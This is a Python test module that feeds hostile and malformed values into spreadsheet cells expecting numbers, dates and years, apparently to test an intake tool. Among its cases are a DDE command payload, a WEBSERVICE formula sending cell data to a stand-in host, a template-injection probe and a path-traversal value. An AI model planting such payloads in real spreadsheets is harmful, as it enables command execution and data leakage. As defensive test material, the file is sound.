"""What stands in cells that want a number, a date, a year."""

from datetime import date, datetime
from functools import partial

from tests.hostile.making import T2, Case, sound
from tests.intake.conftest import with_cells

_ENTRY = "D6"
NUMBERS: dict[str, tuple[object, int | None]] = {
    "a formula": ("=1+1", None),
    "a formula outwards": ('=WEBSERVICE("http://example.invalid/"&A1)', None),
    "DDE": ("=cmd|' /C calc'!A0", None),
    "#REF!": ("#REF!", 1),
    "#N/A": ("#N/A", 1),
    "#DIV/0!": ("#DIV/0!", 1),
    "TRUE": (True, 1),
    "text number": ("'3", None),
    "full width": ("１２", None),
    "thousands": ("1,234", None),
    "with a unit": ("3件", None),
    "in Han": ("三", None),
    "negative": (-3, 1),
    "fraction": (1.5, 1),
    "huge": (1e300, 1),
    "more digits than Excel holds": ("9" * 5000, 1),
    "exponent as text": ("1e999999999", 1),
    "infinity": ("Infinity", 1),
    "NaN": ("nan", 1),
    "slash": ("/", None),
    "nil": ("无", None),
    "a date": (date(2024, 1, 1), 1),
    "a time": (datetime(2024, 1, 1, 8, 30), 1),
    "blanks": ("   ", 1),
    "superscript": ("²", None),
    "Arabic-Indic digits": ("٣", None),
    "Thai digits": ("๓", None),
    "circled": ("③", None),
    "Jinja2": ("{{ 7*7 }}", 1),
    "a line break": ("1\n2", 1),
}
VALUES = {
    f"entry cell: {name}": Case(partial(with_cells, sound(), T2, {_ENTRY: value}), code)
    for name, (value, code) in NUMBERS.items()
}

DATES: dict[str, object] = {
    "serial": 46042,
    "negative serial": -5,
    "huge serial": 1e18,
    "serial of the false leap day": 60,
    "text": "2025年1月20日",
    "points": "2025.1.20",
    "slashes": "2025/1/20",
    "compact": "20250120",
    "Han": "二〇二五年一月二十日",
    "full width": "２０２５年１月２０日",
    "impossible": "2025年2月30日",
    "month 13": "2025-13-01",
    "no day": "2025年1月",
    "year 0": "0000-00-00",
    "year 99999": "99999年1月1日",
    "English": "Jan 20, 2025",
    "ambiguous": "1/2/25",
    "words": "明天",
    "long": "2" * 30000,
    "boolean": True,
    "error": "#VALUE!",
    "formula": "=TODAY()",
    "before the year": date(1970, 1, 1),
    "far future": date(9999, 12, 31),
}
VALUES |= {
    f"date of issue: {name}": Case(partial(with_cells, sound(), "基本信息", {"B9": value}))
    for name, value in DATES.items()
}
YEARS: tuple[object, ...] = (
    "", 0, -1, 1, 1e300, "二〇二四", "2024年度", "２０２４", "99999", "../../2024", "{{year}}", True, "#REF!",
    "=2024", 2024.5, date(2024, 1, 1), "²⁰²⁴", "٢٠٢٤", 9999, 2007,
)  # fmt: skip
VALUES |= {
    f"year: {value!r}": Case(partial(with_cells, sound(), "基本信息", {"B3": value})) for value in YEARS
}
